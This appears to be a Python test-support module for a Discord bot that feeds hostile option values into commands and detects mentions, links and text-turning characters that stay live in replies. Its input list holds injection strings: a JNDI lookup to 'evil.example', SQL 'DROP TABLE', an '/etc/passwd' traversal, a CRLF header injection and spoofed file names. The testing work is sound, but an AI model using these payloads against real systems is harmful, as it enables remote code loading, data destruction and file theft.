"""The worst that people can put into each kind of option, and what must not act in any message after it."""

import re
from collections.abc import Iterable, Iterator
from typing import Any

from bot.sandbox.discord import LocalFile
from bot.sandbox.stage import Stage

Json = dict[str, Any]
TEXT, INTEGER, BOOLEAN, USER, CHANNEL, ROLE, NUMBER, ATTACHMENT = 3, 4, 5, 6, 7, 8, 10, 11
MARKUP = "[a](https://evil.example) discord.gg/abc @everyone <@&1> **b**"
TEXTS = (
    "\x00\x01\x02\x1b[31m\x7f\x85", "\u202eevil\u2066\u2069", "\u200b\u200d\ufeff\u2060", "e" + "\u0301" * 400,
    "\ud800", "\U0010ffff\ue000\ufffe", "@everyone @here <@1> <@&1> <#1>", "<@1>", "<#1>", "<t:1:R>",
    "[a](https://evil.example) discord.gg/abc",
    "```\n```||~~**__>>> # -# 1. ", "{0} %s ${jndi:ldap://evil.example/} {{7*7}} <script>",
    "' OR 1=1; DROP TABLE jobs;--",
    "../../../../etc/passwd", "\r\nX-Injected: yes", "٣٤٥²Ⅷ", "NaN", "1e999", "-0", "z" * 6000,
    "字" * 6000, "😀" * 6000,
)  # fmt: skip
NUMBERS: tuple[Any, ...] = (-1, 0, 10**18, -(10**18), 2**53)
NAMES = (MARKUP[:32], "\u202eevil\u2066", "@everyone", "```", "<@1>")
FILES = (
    (f"{MARKUP}.mp3", "audio/mpeg"), ("\u202e3pm.exe", "audio/mpeg"), ("../../etc/passwd", "text/plain"), ("", ""),
    ("a.mp3", "text/html"), ("z" * 300 + ".png", "image/png"), ("@everyone.mp4", "video/mp4"),
    ("<@1>.txt", "text/plain"),
)  # fmt: skip
# What would still act in a message: mentions, links, invites, and characters that turn or hide text.
_LIVE = re.compile(
    r"@everyone|@here|(?<!\\)<(?:@&?|#)1>|(?<!\\)<t:1:|(?<!\\)<@&9>|(?<!\\)<:x:1>|(?<!\\)\]\(https?://evil|https://evil|discord\.gg/abc|[\u202e\u2066]"
)
_TURNING = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
# Nothing acts in code, which ends with the first fence or backtick of its kind: characters that turn text do.
_CODE = re.compile(r"```.*?```|(?<![\\`])`[^`\n]+`", re.DOTALL)


def hostile(stage: Stage, option: Json) -> Iterator[tuple[Any, Json]]:
    """Every bad value of one option with what Discord resolves it to, as far as people can bring it about."""
    match option["type"]:
        case 3:
            yield from ((text, {}) for text in TEXTS)
        case 4:
            yield from ((number, {}) for number in NUMBERS)
        case 5:
            yield from ((value, {}) for value in (True, False, 2))
        case 6:
            yield from _people(stage)
        case 7:
            yield from _places(stage)
        case 8:
            yield from _roles(stage)
        case 10:
            yield from ((number, {}) for number in (*NUMBERS, 0.1, -0.0, 1e308, 5e-324, 1.0000000001))
        case 11:
            yield from _files(stage)


def _people(stage: Stage) -> Iterator[tuple[Any, Json]]:
    for name in NAMES:
        who = stage.discord.world.add_user(f"hostile{len(stage.discord.world.users)}", global_name=name)
        user = {"id": str(who.id), "username": who.username, "global_name": name, "discriminator": "0", "avatar": None}
        yield str(who.id), {"users": {str(who.id): user}}
    yield "7", {}


def _places(stage: Stage) -> Iterator[tuple[Any, Json]]:
    for number, name in enumerate(NAMES):
        place = {"id": str(10**17 + number), "type": 0, "name": name, "permissions": "0", "parent_id": None}
        yield place["id"], {"channels": {str(place["id"]): place}}
    yield "7", {}


def _roles(stage: Stage) -> Iterator[tuple[Any, Json]]:
    for name in NAMES:
        role = stage.discord.world.add_role(stage.world.guild, name, stage.discord.world.permissions_in(
            stage.world.general, stage.world.member.id))  # fmt: skip
        shown = {"id": str(role.id), "name": name, "permissions": "0", "position": 1, "color": 0, "hoist": False,
                 "managed": False, "mentionable": True, "flags": 0}  # fmt: skip
        yield str(role.id), {"roles": {str(role.id): shown}}
    yield "7", {}


def _files(stage: Stage) -> Iterator[tuple[Any, Json]]:
    files = stage.discord.platform.files
    for name, content_type in FILES:
        kept = files.store(stage.world.general.id, LocalFile("a.bin", b"x" * 64), ephemeral=True)
        shown = files.render({**files.attachment(kept, "a.bin"), "filename": name, "content_type": content_type})
        yield str(kept.id), {"attachments": {str(kept.id): shown}}
    yield "7", {}


def live_parts(payload: Json) -> list[str]:
    """Everything in a message that would act or deceive, of what anybody reads in it."""
    plain = [turned for text in plain_texts(payload) for turned in _TURNING.findall(text)]
    return live_in(shown_texts(payload)) + plain


def live_in(texts: Iterable[str]) -> list[str]:
    """The same of texts in which Discord acts on markup."""
    read, in_code = [], []
    for text in texts:
        read.append(_CODE.sub("", text))
        in_code += _TURNING.findall(text)
    return [found for text in read for found in _LIVE.findall(text)] + in_code


def shown_texts(payload: Json) -> Iterator[str]:
    """Every text of a message in which markup acts: words and embeds."""
    yield str(payload.get("content") or "")
    for embed in payload.get("embeds") or ():
        yield from (str(embed.get(key) or "") for key in ("title", "description"))
        yield from (f"{field['name']}\n{field['value']}" for field in embed.get("fields") or ())
        yield str((embed.get("footer") or {}).get("text", ""))
        yield str((embed.get("author") or {}).get("name", ""))


def plain_texts(payload: Json) -> Iterator[str]:
    """Every text of a message that is drawn as it is: file names, buttons, selects."""
    yield from (str(file.get("title") or file["filename"]) for file in payload.get("attachments") or ())
    yield from _component_texts(payload.get("components") or ())


def _component_texts(components: Any) -> Iterator[str]:
    for one in components:
        yield from (str(one.get(key) or "") for key in ("label", "placeholder", "description", "content"))
        yield from (
            f"{option.get('label', '')}\n{option.get('description') or ''}" for option in one.get("options") or ()
        )
        yield from _component_texts(one.get("components") or ())
